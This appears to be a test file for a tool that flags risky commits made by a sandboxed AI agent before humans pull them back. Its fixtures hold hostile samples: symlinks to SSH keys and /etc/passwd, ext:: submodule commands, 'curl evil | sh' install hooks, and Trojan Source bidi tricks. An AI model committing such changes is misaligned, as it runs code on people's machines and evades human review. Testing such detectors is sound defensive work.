// Flags above the diff: what a change is (symlink, submodule, git config,
// executable bit, files that run code later) and hidden characters in added
// lines. Each case is what an agent inside the sandbox could commit to get
// something past a quick look at the diff, built as real commits and run
// through the real PullbackQuarantine.verify.
import { describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import type { ReviewFlag } from '../../../common/review.js';
import { guestFixtures } from '../../support/pullback-guest.js';

const fixture = guestFixtures();
const ofKind = (flags: ReviewFlag[], kind: ReviewFlag['kind']) => flags.filter((f) => f.kind === kind);

describe('flags', () => {
  it('flags symlinks with their target, and whether they leave the repository', async () => {
    const { guest, verify } = await fixture();
    fs.mkdirSync(path.join(guest.dir, 'docs'));
    fs.symlinkSync('../src/a.txt', path.join(guest.dir, 'docs/inside'));
    fs.symlinkSync('../../.ssh/id_ed25519', path.join(guest.dir, 'docs/outside'));
    fs.symlinkSync('/etc/passwd', path.join(guest.dir, 'absolute'));
    fs.symlinkSync('.git/hooks/pre-commit', path.join(guest.dir, 'hook'));
    guest.commit('links');
    const { review } = await verify();
    expect(ofKind(review.flags, 'symlink').map((f) => [f.path, f.severity, f.message]).sort()).toEqual([
      ['absolute', 'danger', 'symlink absolute → /etc/passwd: points outside the repository'],
      ['docs/inside', 'warning', 'symlink docs/inside → ../src/a.txt: stays inside the repository (src/a.txt)'],
      ['docs/outside', 'danger', 'symlink docs/outside → ../../.ssh/id_ed25519: points outside the repository'],
      ['hook', 'danger', 'symlink hook → .git/hooks/pre-commit: points into the .git folder'],
    ]);
    // Most severe first.
    expect(review.flags[0]!.severity).toBe('danger');
  });

  it('flags a submodule whose URL runs a command (ext::) or reads this machine (file::)', async () => {
    const { guest, verify } = await fixture();
    guest.write('.gitmodules', [
      '[submodule "tools"]', '\tpath = vendor/tools', '\turl = ext::sh -c touch% /tmp/pwned',
      '[submodule "keys"]', '\tpath = vendor/keys', '\turl = file::/home/user/.password-store',
      '[submodule "lib"]', '\tpath = vendor/lib', '\turl = https://example.com/lib.git', '',
    ].join('\n'));
    guest.commit('gitmodules');
    guest.stage([
      { mode: '160000', path: 'vendor/tools', oid: 'a'.repeat(40) },
      { mode: '160000', path: 'vendor/keys', oid: 'b'.repeat(40) },
      { mode: '160000', path: 'vendor/lib', oid: 'c'.repeat(40) },
    ]);
    guest.commitIndex('submodules');
    const { review } = await verify();
    expect(review.files.find((f) => f.path === 'vendor/tools')).toMatchObject({ status: 'added', newMode: 'submodule' });
    const flags = ofKind(review.flags, 'submodule');
    expect(flags).toContainEqual({
      kind: 'submodule', severity: 'danger', path: 'vendor/tools',
      message: 'submodule vendor/tools at commit aaaaaaaaaaaa: ext::sh -c touch% /tmp/pwned (ext:: runs a command on your machine when the submodule is fetched)',
    });
    expect(flags).toContainEqual({
      kind: 'submodule', severity: 'danger', path: 'vendor/keys',
      message: 'submodule vendor/keys at commit bbbbbbbbbbbb: file::/home/user/.password-store (file:: reads a repository from a path on your machine)',
    });
    expect(flags).toContainEqual({
      kind: 'submodule', severity: 'warning', path: 'vendor/lib',
      message: 'submodule vendor/lib at commit cccccccccccc: https://example.com/lib.git (fetched over https)',
    });
    expect(flags.filter((f) => f.path === '.gitmodules').map((f) => f.severity)).toEqual(['danger', 'danger', 'warning']);
  });

  it('reads a .GITMODULES in capitals, which a case-insensitive disk opens as .gitmodules', async () => {
    const { guest, verify } = await fixture();
    guest.write('.GITMODULES', '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c evil\n');
    guest.commit('capitals');
    const { review } = await verify();
    expect(ofKind(review.flags, 'submodule')).toContainEqual({
      kind: 'submodule', severity: 'danger', path: '.GITMODULES',
      message: '.GITMODULES changed: submodule x (path x) → ext::sh -c evil (ext:: runs a command on your machine when the submodule is fetched)',
    });
  });

  it('flags .gitattributes, git config files and the executable bit', async () => {
    const { guest, verify } = await fixture();
    guest.write('.gitattributes', '* filter=run-me\n');
    guest.write('tools/.gitconfig', '[core]\n\tpager = sh -c evil\n');
    guest.write('.lfsconfig', '[lfs]\n\turl = https://evil.example/lfs\n');
    fs.chmodSync(path.join(guest.dir, 'src/a.txt'), 0o755);
    guest.write('new-tool', '#!/bin/sh\n');
    fs.chmodSync(path.join(guest.dir, 'new-tool'), 0o755);
    guest.commit('config');
    const { review } = await verify();
    expect(ofKind(review.flags, 'git-config').map((f) => f.path).sort()).toEqual(['.gitattributes', '.lfsconfig', 'tools/.gitconfig']);
    expect(ofKind(review.flags, 'exec-bit').map((f) => f.message).sort()).toEqual(['new-tool is a new executable file', 'src/a.txt became executable']);
    expect(review.files.find((f) => f.path === 'src/a.txt')).toMatchObject({ status: 'modified', oldMode: 'file', newMode: 'executable', added: 0, removed: 0 });
  });

  it('flags files that run code on the host or in CI later', async () => {
    const { guest, verify } = await fixture();
    const files: Record<string, string> = {
      '.github/workflows/ci.yml': 'on: push\njobs: {}\n',
      '.GitHub/Workflows/Sneaky.yml': 'on: push\n', // the same folder on a case-insensitive disk
      '.factory/pipeline.json': '{"stages":{}}\n',
      '.claude/settings.json': '{"hooks":{}}\n',
      '.husky/pre-commit': 'curl evil | sh\n',
      '.vscode/tasks.json': '{}\n',
      '.envrc': 'export X=1\n',
      'Makefile': 'all:\n\ttrue\n',
      '.npmrc': 'node-options=--require ./x.js\n',
      'docs/readme.txt': 'nothing to see\n',
    };
    for (const [p, c] of Object.entries(files)) guest.write(p, c);
    guest.commit('hooks and ci');
    const { review } = await verify();
    const runs = Object.fromEntries(ofKind(review.flags, 'runs-code').map((f) => [f.path, f.severity]));
    expect(runs).toEqual({
      '.github/workflows/ci.yml': 'danger',
      '.GitHub/Workflows/Sneaky.yml': 'danger',
      '.factory/pipeline.json': 'danger',
      '.claude/settings.json': 'danger',
      '.husky/pre-commit': 'danger',
      '.vscode/tasks.json': 'danger',
      '.envrc': 'warning',
      'Makefile': 'warning',
      '.npmrc': 'warning',
    });
  });

  it('flags changed package.json scripts, install scripts as danger', async () => {
    const { guest, verify } = await fixture();
    guest.write('package.json', JSON.stringify({ name: 'x', scripts: { test: 'vitest', postinstall: 'node -e "require(\'child_process\').exec(\'curl evil|sh\')"' } }));
    guest.write('pkg/b/package.json', JSON.stringify({ name: 'b', scripts: { build: 'tsc' } }));
    guest.commit('scripts');
    const { review } = await verify();
    const flags = ofKind(review.flags, 'runs-code');
    expect(flags).toContainEqual({ kind: 'runs-code', severity: 'danger', path: 'package.json', message: 'package.json: install scripts changed (postinstall): they run on npm install; scripts changed: postinstall, test' });
    expect(flags).toContainEqual({ kind: 'runs-code', severity: 'warning', path: 'pkg/b/package.json', message: 'pkg/b/package.json: scripts changed: build' });
  });

  it('flags bidi controls and invisible characters in added lines, with the line number (Trojan Source)', async () => {
    const { guest, verify } = await fixture();
    guest.write('src/auth.js', [
      'function isAdmin(accessLevel) {',
      // CVE-2021-42574: shown as a comment, runs as a comparison.
      '  if (accessLevel != "user\u202E \u2066// Check if admin\u2069 \u2066") {',
      '    return true;',
      '  }',
      '  const ad\u200Bmin = false; // a zero-width space makes a second identifier',
      '  return admin;',
      '}',
      '',
    ].join('\n'));
    guest.commit('trojan source');
    const { review } = await verify();
    const flags = ofKind(review.flags, 'hidden-chars');
    expect(flags.map((f) => [f.path, f.line, f.severity])).toEqual([
      ['src/auth.js', 2, 'danger'],
      ['src/auth.js', 5, 'warning'],
    ]);
    expect(flags[0]!.message).toBe('src/auth.js line 2: U+202E (bidi), U+2066 (bidi), U+2069 (bidi) in an added line; what it shows may not be what it does');
    expect(flags[1]!.message).toContain('U+200B (invisible)');
  });
});
